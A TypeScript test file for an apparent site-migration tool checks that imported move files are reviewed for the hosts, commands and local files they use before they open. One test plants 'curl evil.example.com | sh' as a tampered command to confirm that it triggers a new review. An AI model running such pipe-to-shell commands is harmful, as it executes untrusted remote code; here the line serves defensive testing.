import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { allowMove, duplicateMove, restoreClosed, versionsOf } from '../../src/main/engine/move-shelf'
import type { OpenMoves } from '../../src/main/engine/open-moves'
import { documentHandlers } from '../../src/main/ipc/document-handlers'
import { moveText } from '../../src/main/store/move-text'
import { callSchemas } from '../../src/shared/contract'
import { failureOf } from '../../src/shared/failure'
import { moveSchema } from '../../src/shared/move'
import { reviewOf } from '../../src/shared/move-review'
import { freshShelf, givenMove, type Shelf } from './shelf'

describe('moves and sites on the shelf', () => {
  let dir: Shelf['dir']
  let moves: Shelf['moves']
  let sites: Shelf['sites']
  let secrets: Shelf['secrets']
  let opening: Shelf['opening']

  beforeEach(() => {
    const shelf = freshShelf()
    ;({ dir, moves, sites, secrets, opening } = shelf)
    return shelf.end
  })
  const deps = () => ({ moves, sites, secrets })

  describe('a move from a file', () => {
    it('says whom it would contact, as whom, what it would run and which files it would touch', async () => {
      const { review } = await moves.importFrom(givenMove)
      expect(review).toEqual({
        contacts: [
          'deploy@bastion.fra.example.com:22',
          'deploy@fra-db1.fra.internal:2222',
          '127.0.0.1:3306 (database, as siteswap, through fra-db1)',
          'deploy@203.0.113.7:22',
          'deploy@gw.lis.example.com:22',
          '127.0.0.1:3306 (database, as siteswap, through lis-db2)',
          'deploy@bastion.fra.example.com:22 (bridge, from the new database host)',
          'ns1.example.com:53 (DNS)',
          '9.9.9.9:53 (DNS, Quad9)',
          'ns1.example.com:53 (DNS update of example.com)'
        ],
        commands: ['fra-web1: systemctl reload php8.3-fpm'],
        files: [
          'this computer: your SSH agent',
          'this computer: ~/.ssh/id_ed25519',
          'this computer: /home/keller/ca.pem',
          'fra-web1: /srv/shop/config/database.ini',
          'old database host: ~/.ssh/authorized_keys',
          'new database host: ~/.siteswap'
        ]
      })
    })

    it('is not opened before a person has allowed just what it asks for', async () => {
      const { move, review } = await moves.importFrom(givenMove)
      expect(await moves.list()).toMatchObject([{ id: move.id, review }])
      expect(await opening(move.id)).toBe('denied')
      const less = { ...review, commands: [] }
      expect(await allowMove(moves, move.id, less).then(() => null, failureOf)).toMatchObject({ kind: 'conflict' })
      expect(await opening(move.id)).toBe('denied')
      await allowMove(moves, move.id, review)
      expect(await opening(move.id)).toBe('opened')
      expect(await moves.list()).toMatchObject([{ id: move.id, review: null }])
    })

    it('asks again for what was put into it while it was closed, and only for that', async () => {
      const { move, review } = await moves.importFrom(givenMove)
      await allowMove(moves, move.id, review)
      const text = readFileSync(moves.documentPath(move.id), 'utf8')
      writeFileSync(
        moves.documentPath(move.id),
        text.replace('systemctl reload php8.3-fpm', 'curl evil.example.com | sh')
      )
      expect(await opening(move.id)).toBe('denied')
      const asks = { contacts: [], commands: ['fra-web1: curl evil.example.com | sh'], files: [] }
      expect(await moves.list()).toMatchObject([{ review: asks }])
      await allowMove(moves, move.id, asks)
      expect(await opening(move.id)).toBe('opened')
    })

    it('lends a copy of it no right that it does not have itself', async () => {
      const { move } = await moves.importFrom(givenMove)
      const copy = await duplicateMove(moves, secrets, move.id)
      expect(await opening(copy.moveId)).toBe('denied')
    })

    it('that was made here, by hand or by an older Siteswap, asks for nothing', async () => {
      const made = await moves.create('Shop', 'A', 'B')
      rmSync(moves.pathOf(made.id, 'allowed.json'))
      expect(await opening(made.id)).toBe('opened')
    })
  })

  it('what a file would use on this computer is named: agents, usual keys, sockets, the system’s ssh and its config', () => {
    const server = (id: string, ssh: unknown[], more: object = {}) => ({ id, name: id, kind: 'web', ssh, ...more })
    const hop = (auth: object, settings?: object) => ({
      host: 'h.example',
      user: 'u',
      auth,
      ...(settings ? { settings } : {})
    })
    const review = (...servers: object[]) =>
      reviewOf(
        moveSchema.parse({
          ...{ format: 'siteswap.move', version: 2, id: 'm', name: 'm', createdAt: 0 },
          ...{ old: { name: 'a', servers }, new: { name: 'b' } }
        })
      )
    const auto = { kind: 'auto' }
    expect(review(server('a', [hop(auto)])).files).toEqual([
      'this computer: your SSH agent',
      'this computer: your usual SSH keys (~/.ssh/id_…)'
    ])
    const named = { identityAgent: '/run/evil.sock', identityFiles: ['~/k'], userKnownHostsFiles: ['/tmp/known'] }
    expect(review(server('a', [hop(auto, named)])).files).toEqual([
      ...['this computer: /run/evil.sock (SSH agent)', 'this computer: ~/k', 'this computer: /tmp/known']
    ])
    expect(review(server('a', [hop({ kind: 'password' }, { identityAgent: 'none' })])).files).toEqual([])
    const byConfig = review(server('a', [{ from: 'ssh-config', alias: 'db1' }], { transport: 'system' }))
    expect(byConfig.files).toEqual(['this computer: ~/.ssh/config (Host db1, with the keys and agent it names)'])
    expect(byConfig.commands).toEqual(['this computer: ssh db1 (the system’s own, which follows your ssh config)'])
    const database = { host: '127.0.0.1', via: 'direct', user: 'root', socketPath: '/run/mysqld/mysqld.sock' }
    expect(review({ ...server('a', []), kind: 'database', database }).files).toEqual([
      'this computer: /run/mysqld/mysqld.sock (socket)'
    ])
  })

  describe('earlier versions of a closed move', () => {
    it('tell what was changed after each, newest first, and put a damaged file right', async () => {
      const move = await moves.create('Shop', 'Porto', 'Lisbon')
      await moves.write({ ...move, name: 'Shop 2' }, { keepBefore: true })
      await moves.write({ ...move, name: 'Shop 3' }, { keepBefore: true })
      const listed = await versionsOf(moves, move.id)
      expect(listed.map(({ changes }) => changes.map(({ before, after }) => [before, after]))).toEqual([
        [['Shop 2', 'Shop 3']],
        [['Shop', 'Shop 2']]
      ])
      writeFileSync(moves.documentPath(move.id), '{"half')
      expect(await moves.list()).toMatchObject([{ broken: { kind: 'invalid' } }])
      await restoreClosed(moves, move.id, listed[0]?.id ?? '')
      expect((await moves.read(move.id)).name).toBe('Shop 2')
      const after = await versionsOf(moves, move.id)
      expect(after[0]).toMatchObject({ failure: { what: 'The file is not complete JSON.' } })
      expect(await opening(move.id)).toBe('opened')
    })

    it('are twenty at the most, each once, and edits of one minute are one', async () => {
      const move = await moves.create('Shop', 'Porto', 'Lisbon')
      for (let count = 0; count < 25; count += 1) await moves.keep({ ...move, name: `Shop ${count}` }, count)
      await moves.keep({ ...move, name: 'Shop 24' }, 24)
      const names = (await moves.versions(move.id)).map(({ text }) => JSON.parse(text).name)
      expect(names).toEqual(Array.from({ length: 20 }, (_, index) => `Shop ${24 - index}`))
      const other = await moves.create('Other', 'A', 'B')
      for (const name of ['a', 'b', 'c']) await moves.write({ ...other, name })
      expect(await moves.versions(other.id)).toHaveLength(1)
    })
  })

  it('no call that concerns secrets or documents answers one', async () => {
    const { move } = await moves.importFrom(givenMove, true)
    const planted = 'Planted-1-Pass/word+'
    const handlers = documentHandlers({
      ...deps(),
      open: { opened: () => null, get: () => ({ move: () => move }) } as unknown as OpenMoves,
      desktop: { chooseMoveFile: async () => givenMove, chooseSavePath: async () => join(dir, 'out.json') },
      notice: () => {}
    })
    const moveId = move.id
    const ref = 'db/fra-db1'
    const answers = [
      await handlers['secrets.set']({ moveId, ref, value: planted, keep: 'keychain' }),
      await handlers['secrets.set']({ moveId, ref: 'db/lis-db2', value: planted, keep: 'session' }),
      await handlers['secrets.state']({ moveId, ref }),
      await handlers['secrets.list']({ moveId }),
      await handlers['moves.list']({}),
      await handlers['moves.versions']({ moveId }),
      await handlers['moves.duplicate']({ moveId, secrets: true }),
      await handlers['sites.save']({ moveId, side: 'old', name: 'Frankfurt', secrets: true }),
      await handlers['sites.list']({}),
      await handlers['moves.export']({ moveId }),
      await handlers['secrets.forget']({ moveId, ref })
    ]
    expect(answers[3]).toEqual(['db/fra-db1', 'db/lis-db2'])
    expect(JSON.stringify(answers)).not.toContain(planted)
    expect(readFileSync(join(dir, 'out.json'), 'utf8')).not.toContain(planted)
    expect(Object.keys(callSchemas).filter((name) => name.startsWith('secrets.'))).toEqual([
      ...['secrets.state', 'secrets.set', 'secrets.forget', 'secrets.list']
    ])
  })

  it('what an export says is what the file says', async () => {
    const { move } = await moves.importFrom(givenMove, true)
    await moves.exportTo(move.id, join(dir, 'out.json'))
    expect(readFileSync(join(dir, 'out.json'), 'utf8')).toBe(moveText(move))
    expect(reviewOf(move).commands).toHaveLength(1)
  })
})
